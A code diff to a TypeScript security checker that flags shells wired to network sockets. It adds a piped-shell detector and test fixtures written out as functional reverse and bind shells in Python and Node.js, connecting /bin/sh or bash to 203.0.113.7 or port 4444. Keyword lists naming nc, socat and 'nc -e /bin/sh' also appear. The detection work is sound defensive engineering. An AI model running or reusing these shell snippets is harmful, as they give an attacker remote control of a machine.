@@ -2,6 +2,7 @@ import type { FileCheck } from '../../check.ts';
 import type { Act } from '../../facts/acts/act.ts';
 import { isSentBack } from '../../facts/acts/sent-back.ts';
 import type { Flow } from '../../facts/flow/flow-facts.ts';
+import { pipedShells } from '../../knowledge/piped-shells.ts';
 import { SOCKET_SHELLS } from '../../knowledge/socket-shells.ts';
 import { COMMAND_SINKS } from '../../knowledge/sinks/command.ts';
 import { traceOf } from '../../knowledge/source-trust.ts';
@@ -51,6 +52,8 @@ export const check: FileCheck = {
       'tcpstream::connect',
       'new socket',
       'tcpclient',
+      '.stdin',
+      'spawn(',
     ],
     words: ['nc ', 'ncat ', 'netcat ', 'mkfifo ', 'socat '],
     acts: ['remote-control'],
@@ -126,6 +129,39 @@ export const check: FileCheck = {
           subprocess.call(["/bin/sh", "-i"])`,
       },
       {
+        'agent.py': `
+          s = socket.create_connection((host, port))
+          «for fd in (0, 1, 2):
+              os.dup2(s.fileno(), fd)»
+          pty.spawn("/bin/sh")`,
+      },
+      {
+        'index.js': `
+          const net = require('net');
+          const shell = require('child_process').spawn('/bin/sh', []);
+          const socket = net.connect(4444, '203.0.113.7', () => {
+            «socket.pipe(shell.stdin);
+            shell.stdout.pipe(socket»);
+          });`,
+      },
+      {
+        'lib/link.ts': `
+          import { createServer } from 'node:net';
+          import * as processes from 'node:child_process';
+          createServer((link) => {
+            const shell = processes.spawn('bash', ['-i']);
+            «link.on('data', (data) => shell.stdin.write(data));
+            shell.stdout.on('data', (data) => link.write(»data));
+          }).listen(4444);`,
+      },
+      {
+        'lib/given.js': `
+          const net = require('net');
+          const { spawn } = require('child_process');
+          const far = net.connect(4444, '203.0.113.7');
+          «spawn('/bin/sh', ['-i'], { stdio: [far, far, far»] });`,
+      },
+      {
         'client.py': `
           command = sock.recv(1024).decode()
           output = «subprocess.check_output(command, shell=True)»
@@ -186,6 +222,23 @@ export const check: FileCheck = {
           socket.getOutputStream().write(hello);
           new ProcessBuilder("git", "status").start();`,
       },
+      {
+        'server.ts': `
+          import { createServer } from 'node:net';
+          import { spawn } from 'node:child_process';
+          createServer((socket) => {
+            const server = spawn('language-server', ['--stdio']);
+            socket.pipe(server.stdin);
+            server.stdout.pipe(socket);
+          }).listen(0, '127.0.0.1');`,
+      },
+      {
+        'console.js': `
+          const net = require('net');
+          const shell = require('child_process').spawn('/bin/sh');
+          process.stdin.pipe(shell.stdin);
+          shell.stdout.pipe(process.stdout);`,
+      },
       { 'filter.yaml': 'words:\n  - keyword: "nc -e /bin/sh"\n    severity: high\n' },
       { 'wait.sh': 'until nc -z localhost 5432; do sleep 1; done' },
       { 'probe.sh': '(echo > /dev/tcp/localhost/80) && echo open' },
@@ -227,11 +280,15 @@ export const check: FileCheck = {
         confidence: isFixedServer(text) ? 'high' : 'medium',
       };
     }
+    if (SCRIPTS.has(language)) {
+      for (const { start, end } of pipedShells(text))
+        yield { at: span(start, end), message: 'A shell is connected to a network socket.' };
+    }
     for (const window of windows) {
       for (const form of FORMS) {
         for (const match of window.text.matchAll(form)) {
           // A daemon hands its streams to files in the same way.
-          if (match[0].startsWith('os.dup2') && !SOCKET.test(window.text)) continue;
+          if (match[0].includes('os.dup2') && !SOCKET.test(window.text)) continue;
           if (match[0].startsWith('exec') && !READ_BY_SHELL.test(window.text)) continue;
           if (DATA.has(language) && LOOKED_FOR.test(lineRound(window.text, match.index))) continue;
           yield {
@@ -273,6 +330,7 @@ const ADDRESS =
   /["'`](?:(?:https?|wss?|tcp):\/\/[\w{}$.-]{4,}|\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?["'`])|\.connect\(\s{0,3}\(?\s{0,3}["'][\w.-]{4,100}["']/;
 const ASKED_FOR = /environ|getenv|process\.env|argv|argparse|add_argument|\.option\(|config|default|input\(/i;
 
+const SCRIPTS: ReadonlySet<string> = new Set(['javascript', 'typescript']);
 const DATA: ReadonlySet<string> = new Set(['yaml', 'json', 'toml']);
 /** `keyword: "nc -e /bin/sh"`: what a filter looks for, in words of its own. */
 const LOOKED_FOR = /^[\s{-]*["']?(?:keyword|phrase|pattern|signature|regex)s?["']?\s*[:=]\s*["']/i;
